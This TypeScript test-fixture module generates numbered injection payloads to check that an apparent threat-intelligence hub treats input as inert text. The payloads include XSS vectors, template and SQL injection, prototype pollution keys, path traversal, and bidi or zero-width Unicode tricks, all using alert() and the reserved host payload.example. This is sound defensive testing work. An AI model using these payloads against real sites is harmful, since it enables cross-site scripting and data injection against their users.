/** Texts that would act if the app took them for anything but texts. Each tells which one it was. */

/** Where a payload would lead or fetch from: reserved by RFC 2606, so that it is nobody's. */
export const FAR = 'payload.example';

interface Made {
  readonly number: number;
  /** Script that says it was run, for a page and for whoever watches dialogs. */
  readonly run: string;
  /** An address elsewhere. */
  readonly far: string;
}
type Recipe = (made: Made) => string;

const MARKUP: readonly Recipe[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `"><script>${run}</script>`,
  ({ run }) => `<img src=x onerror="${run}">`,
  ({ far }) => `<img src="${far}.png" alt="far">`,
  ({ far }) => `<img srcset="${far}.png 1x" sizes=1px>`,
  ({ run }) => `<svg onload="${run}"></svg>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run }) => `<svg><animate onbegin="${run}" attributeName=x dur=1s /></svg>`,
  ({ run }) => `<svg><a xlink:href="javascript:${run}"><text y=9>tap</text></a></svg>`,
  ({ far }) => `<svg><image href="${far}.svg" width=9 height=9 /></svg>`,
  ({ far }) => `<svg><style>@import url(${far}.css);</style></svg>`,
  ({ run }) => `<math><mi href="javascript:${run}">m</mi></math>`,
  ({ run }) =>
    `<math><mtext><b><mglyph><style><!--</style><img title="--><img src=x onerror='${run}'>">`,
  ({ run }) => `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  ({ run }) => `<iframe src="javascript:top.${run}"></iframe>`,
  ({ far }) => `<object data="${far}"></object><embed src="${far}">`,
  ({ far }) => `<link rel=stylesheet href="${far}.css">`,
  ({ far }) => `<base href="${far}/"><img src=relative>`,
  ({ far }) => `<meta http-equiv=refresh content="0;url=${far}">`,
  ({ run }) => `<input autofocus onfocus="${run}">`,
  ({ run }) => `<details open ontoggle="${run}"><summary>s</summary></details>`,
  ({ run }) => `<video autoplay><source src=x onerror="${run}"></video>`,
  ({ far }) => `<audio autoplay src="${far}.mp3"></audio>`,
  ({ far }) => `<form action="${far}"><button autofocus>Sign in again</button></form>`,
  ({ far }) => `<style>@import "${far}.css";</style>`,
  ({ far }) => `<p style="background-image:url(${far}.png)">styled</p>`,
  ({ run }) => `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  ({ run }) => `</textarea><img src=x onerror="${run}">`,
  ({ run }) => `</title></style></script><img src=x onerror="${run}">`,
  ({ run }) => `--><img src=x onerror="${run}"><!--`,
  ({ run }) => `]]><img src=x onerror="${run}"><![CDATA[`,
  ({ run }) => `<!--><img src=x onerror="${run}">-->`,
  ({ run }) => `<a href="javascript:${run}">open</a>`,
  ({ run }) => `<x-new tabindex=0 autofocus onfocus="${run}">new</x-new>`,
];

const ATTRIBUTES: readonly Recipe[] = [
  ({ run }) => `" onmouseover="${run}" data-x="`,
  ({ run }) => `' autofocus tabindex=0 onfocus='${run}`,
  ({ run }) => `x onpointerenter=${run} x=`,
  ({ far }) => `" style="background:url(${far})" data-x="`,
  ({ run }) => `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
  ({ run }) => `&#60;img src=x onerror=${run}&#62;`,
  ({ run }) => `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  ({ run }) => `\\u003cimg src=x onerror=${run}\\u003e`,
  ({ run }) => `＜img src=x onerror=${run}＞`,
  ({ run }) => `<div><template shadowrootmode=open><img src=x onerror="${run}"></template></div>`,
  ({ run }) => `<<b>img src=x onerror="${run}"<</b>>`,
  ({ run }) => `<ſcript>${run}</ſcript>`,
];

/** Also what an address of a source could be. */
const ADDRESSES: readonly Recipe[] = [
  ({ run }) => `javascript:${run}`,
  ({ run }) => `JaVaScRiPt:${run}//https://payload.example`,
  ({ run }) => `java&Tab;script:${run}`,
  ({ run }) => `javascript://payload.example/%0a${run}`,
  ({ run }) => `data:text/html,<script>${run}</script>`,
  ({ run }) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  ({ run }) => `vbscript:${run}`,
  ({ far }) => `blob:${far}`,
  ({ number }) => `//payload.example/${String(number)}`,
  ({ number }) => `\\\\payload.example\\share\\${String(number)}`,
  ({ number }) => `https:payload.example/${String(number)}`,
  ({ number }) => `https://[payload.example/${String(number)}`,
  ({ number }) => `https://tocsin@payload.example:444/${String(number)}`,
  ({ number, run }) => `https://payload.example/${String(number)}?q=<img src=x onerror=${run}>`,
  ({ number }) => `file:///etc/payload-${String(number)}`,
  ({ number }) => `../../../payload-${String(number)}/%2e%2e/`,
];

const LANGUAGES: readonly Recipe[] = [
  ({ run }) => `{{constructor.constructor('${run}')()}}`,
  ({ run }) => `\${${run}}`,
  ({ run }) => `<%= ${run} %>`,
  ({ number }) => `$t(Share) {{count}} {{name}} %s ${String(number)}`,
  ({ run }) => `[open](javascript:${run})`,
  ({ far }) => `![far](${far}.png) <${far}>`,
  ({ run }) => `</script><script>${run}//`,
  ({ run }) => `"}]};${run};//`,
  ({ run }) => `';${run};'`,
  ({ far }) => `}*{background:url(${far})}`,
  ({ number }) => `**strong ${String(number)}** \`code\` | pipe`,
  ({ number }) => `' OR 1=1; -- ${String(number)}`,
];

/** Names that mean something to a table of words kept in an object. */
const KEYS: readonly Recipe[] = [
  () => '__proto__',
  () => 'constructor',
  () => 'hasOwnProperty',
  ({ number }) => `constructor:toString is:__proto__ ${String(number)}`,
  ({ number }) => `{"__proto__":{"polluted":${String(number)}}}`,
  ({ number }) => `constructor[prototype][polluted]=${String(number)}`,
];

const LETTERS: readonly Recipe[] = [
  ({ number }) => `${String(number)}${'W'.repeat(150)}`,
  ({ number }) => `a${'\u0301\u0323\u0330'.repeat(12)} stacked ${String(number)}`,
  ({ number }) => `שלום <b>${String(number)}</b> مرحبا`,
  ({ number }) => `👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿 ${String(number)}`,
  ({ number }) => `non${'\u00a0'.repeat(40)}breaking ${String(number)}`,
];

/** Characters nobody sees. The hub refuses them in names of people, organizations, groups and communities. */
const UNSEEN: readonly Recipe[] = [
  ({ number }) => `invoice-${String(number)}-\u202egpj.exe`,
  ({ number }) => `left ${String(number)} \u2066right\u2069 \u200fmark`,
  ({ number }) => `ad\u200bmin\u2060 ${String(number)}`,
  ({ run }) => `<scr\u200bipt>${run}</scr\u200bipt>`,
  ({ run }) => `java\tscript:${run}`,
];

/** What any field of one line takes: at most 200 characters, none of them unseen. */
export const LINES: readonly string[] = made(
  [MARKUP, ATTRIBUTES, ADDRESSES, LANGUAGES, KEYS, LETTERS].flat(),
  0,
);

/** What a field of the hub's own refuses and STIX allows. */
export const UNSEEN_LINES: readonly string[] = made(UNSEEN, LINES.length);

/** What STIX objects and free texts hold. */
export const PAYLOADS: readonly string[] = [...LINES, ...UNSEEN_LINES];

/** What would be taken for markup by a page that trusts its data; the others aim at addresses, words and eyes. */
export const MARKUP_COUNT = MARKUP.length;

function made(recipes: readonly Recipe[], first: number): string[] {
  return recipes.map((recipe, place) => {
    const number = first + place;
    return recipe({
      number,
      run: `alert(${String(number)})`,
      far: `https://${FAR}/${String(number)}`,
    });
  });
}
